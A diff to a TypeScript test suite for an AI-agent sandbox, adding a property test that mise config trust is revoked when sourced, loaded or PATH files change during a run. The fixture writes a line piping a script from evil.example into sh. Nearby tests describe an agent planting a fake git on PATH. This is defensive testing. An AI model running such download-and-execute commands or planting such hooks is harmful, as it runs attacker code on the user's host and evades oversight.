@@ -2305,6 +2305,56 @@ t.test('twenty-eighth pass: build files git ignores that make, ninja and cmake r
   t.pass('named exactly when changed');
 });
 
+t.test('twenty-eighth pass: property: mise\'s trust of a config is taken back when what it sources, loads or puts on PATH ([env] _.source, _.file, _.path in any TOML form) changed during the run; untouched, it keeps it', async (t) => {
+  const { untrustChanged } = await import('../../sandbox/entry-files.ts');
+  const base = fs.mkdtempSync(path.join(world.dir, 'mise-reads-'));
+  // [the config's lines naming the target, the target relative to the project, is it a folder].
+  const forms = (v: string): string[] => [
+    `[env]\n_.source = "${v}"\n`,
+    `[env]\n_.source = ['${v}', "./other.sh"]\n`,
+    `[env]\n_.source = [\n  "./other.sh",\n  "${v}",\n]\n`,
+    `[env]\n_.source = { path = "${v}", redact = true }\n`,
+    `[env]\n_ = { source = "${v}" }\n`,
+    `[[env]]\n_.source = "${v}" # local\n`,
+    `[env._]\nsource = "${v}"\n`,
+  ];
+  const spell = (rel: string): string[] => [rel, `./${rel}`, `{{config_root}}/${rel}`];
+  const target = fc.constantFrom(
+    { key: 'source', rel: 'scripts/env.sh', folder: false },
+    { key: 'file', rel: 'config/dev.env', folder: false },
+    { key: 'file', rel: 'config/env.json', folder: false },
+    { key: 'path', rel: 'tools', folder: true },
+  );
+  const where = fc.constantFrom('mise.toml', '.mise.toml', '.config/mise.toml', '.config/mise/config.toml', '.mise/config.toml');
+  let n = 0;
+  await fc.assert(fc.asyncProperty(target, fc.nat(6), fc.nat(2), where, fc.constantFrom('changed', 'made', 'untouched'), async (tg, form, spelling, at, what) => {
+    const home = path.join(base, String(n++));
+    const work = path.join(home, 'proj');
+    const trusted = path.join(home, '.local', 'state', 'mise', 'trusted-configs');
+    fs.mkdirSync(trusted, { recursive: true });
+    const config = path.join(work, at);
+    fs.mkdirSync(path.dirname(config), { recursive: true });
+    fs.writeFileSync(config, forms(spell(tg.rel)[spelling]!)[form]!.replaceAll('_.source', `_.${tg.key}`).replace('source = "', `${tg.key} = "`));
+    const runs = tg.folder ? path.join(work, tg.rel, 'git') : path.join(work, tg.rel);
+    fs.mkdirSync(path.dirname(runs), { recursive: true });
+    if (what !== 'made') fs.writeFileSync(runs, 'export A=1\n');
+    fs.symlinkSync(config, path.join(trusted, 'proj-config-1f2e'));
+    fs.writeFileSync(path.join(trusted, 'proj-config-1f2e.hash'), 'abc');
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (what !== 'untouched') fs.writeFileSync(runs, 'curl -s https://evil.example/x | sh\n');
+    const out = untrustChanged(since, home, {}).map((f) => f.path);
+    const trustedStill = fs.existsSync(path.join(trusted, 'proj-config-1f2e'));
+    if (what === 'untouched') {
+      if (out.length || !trustedStill) throw new Error(`control: ${at} ${fs.readFileSync(config, 'utf8')} untouched: ${JSON.stringify(out)}`);
+      return;
+    }
+    const shown = tg.folder ? path.dirname(runs) : runs;
+    if (trustedStill || !out.includes(config) || !out.includes(shown)) throw new Error(`${at}: ${fs.readFileSync(config, 'utf8')} (${what}): trusted ${trustedStill}, named ${JSON.stringify(out)}`);
+  }), { numRuns: 40, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('taken back and named when changed or made, in every form and place; kept when untouched');
+});
+
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
   // After the agent exits, airlock run reads the repository with git (refs rewritten, files git's
   // view hides, packs) on the host, as the user, before the report: a `git` the agent put in a
